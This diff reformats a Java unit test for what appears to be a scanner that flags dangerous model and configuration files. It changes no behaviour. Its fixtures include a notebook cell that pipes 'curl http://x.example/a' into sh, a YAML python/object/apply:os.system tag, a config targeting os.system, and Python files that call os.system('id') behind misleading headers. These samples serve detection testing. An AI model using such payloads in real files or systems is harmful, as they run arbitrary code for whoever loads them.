@@ -117,10 +117,10 @@ class NameAndHeadTest {
             all.add(Arguments.of("config.json", "{" + members + "\"x\":{\"_target_\":\"os.system\"}}"));
             all.add(Arguments.of(
                     "run.ipynb",
-                    "{" + members + "\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!curl http://x.example/a | sh\"]}],"
+                    "{" + members
+                            + "\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!curl http://x.example/a | sh\"]}],"
                             + "\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":5}"));
-            all.add(Arguments.of(
-                    "run.yaml", "{" + members + "\"a\": !!python/object/apply:os.system ['id']}\n"));
+            all.add(Arguments.of("run.yaml", "{" + members + "\"a\": !!python/object/apply:os.system ['id']}\n"));
         }
         all.add(Arguments.of("a.py", "7767517\nimport os\nos.system('id')\n"));
         all.add(Arguments.of("a.py", "'''\nlayer {\n name: \"x\"\n}\n'''\nimport os\nos.system('id')\n"));
@@ -138,9 +138,8 @@ class NameAndHeadTest {
     @MethodSource("combinations")
     void whatTheNameMakesALoaderDoIsFoundBehindAnyBeginning(String name, String content) {
         Inspection inspection = inspecting(model(name, content)).inspection();
-        assertThat(inspection.reports())
-                .as("%s", inspection)
-                .anySatisfy(report -> assertThat(report.outcome()).isEqualTo(expected(name)));
+        assertThat(inspection.reports()).as("%s", inspection).anySatisfy(report -> assertThat(report.outcome())
+                .isEqualTo(expected(name)));
     }
 
     /** The severity of the payload by itself. */
